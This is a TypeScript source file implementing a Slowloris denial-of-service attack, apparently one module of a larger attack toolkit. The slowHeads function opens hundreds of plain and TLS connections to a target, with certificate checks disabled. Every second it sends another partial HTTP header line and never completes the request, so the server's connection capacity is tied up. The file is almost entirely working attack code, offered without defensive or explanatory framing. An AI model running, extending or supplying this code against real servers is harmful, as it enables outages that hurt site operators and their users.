import { connect } from "node:tls";
import { keepOpen, plainly } from "./keepOpen";
import type { Target } from "./messages";
import type { Tally } from "./Tally";

/** Slowloris: each connection sends another line of its head every second, and never the last one. */
export function slowHeads({ published, host }: Target, tally: Tally): void {
    const { host: address, http, https } = published;
    const plain = keepOpen({ most: 800, perSecond: 400 }, tally, () => plainly(address, http));
    const secure = keepOpen({ most: 200, perSecond: 50 }, tally, () =>
        connect({ host: address, port: https, servername: host, rejectUnauthorized: false }),
    );
    const begun = new WeakSet<object>();
    setInterval(() => {
        for (const socket of [...plain, ...secure]) {
            socket.write(begun.has(socket) ? "x-slow: 1\r\n" : `GET / HTTP/1.1\r\nhost: ${host}\r\n`);
            begun.add(socket);
        }
    }, 1000);
}
